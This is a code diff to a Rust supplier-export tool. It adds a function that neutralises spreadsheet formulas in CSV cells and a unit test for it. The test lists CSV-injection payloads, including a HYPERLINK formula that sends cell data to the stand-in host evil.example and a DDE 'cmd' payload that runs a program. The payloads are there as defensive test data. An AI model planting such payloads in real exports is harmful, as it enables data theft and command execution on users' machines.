@@ -380,11 +380,24 @@ pub fn state_reset(
     Ok(())
 }
 
+/// A CSV cell as a spreadsheet may safely open it: text that starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula
+/// (`=HYPERLINK(…)` leaks data, `=cmd|…` runs programs), so it gets a `'`
+/// before it, as OWASP recommends against CSV injection. JSON lines stay exact.
+pub fn neutralise_formula(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_owned()
+    }
+}
+
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 pub enum ExportFormat {
     /// One JSON object per supplier, locations and addresses nested.
     Jsonl,
-    /// One row per address (or per location, or per supplier without either).
+    /// One row per address (or per location, or per supplier without either);
+    /// a cell a spreadsheet would run as a formula starts with `'`.
     Csv,
 }
 
@@ -559,7 +572,7 @@ pub fn suppliers_export(
                         .iter()
                         .map(|f| match &obj[*f] {
                             Value::Null => String::new(),
-                            Value::String(s) => s.clone(),
+                            Value::String(s) => neutralise_formula(s),
                             other => other.to_string(),
                         })
                         .collect()
@@ -598,7 +611,24 @@ pub fn suppliers_export(
 
 #[cfg(test)]
 mod tests {
-    use super::esc;
+    use super::{esc, neutralise_formula};
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
+        for formula in [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+            "+SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            assert_eq!(neutralise_formula(formula), format!("'{formula}"));
+        }
+        for text in ["Acme B.V.", "", " =not first", "A=B", "'quoted"] {
+            assert_eq!(neutralise_formula(text), text);
+        }
+    }
 
     #[test]
     fn views_escape_what_could_forge_a_field_or_hide_a_character() {
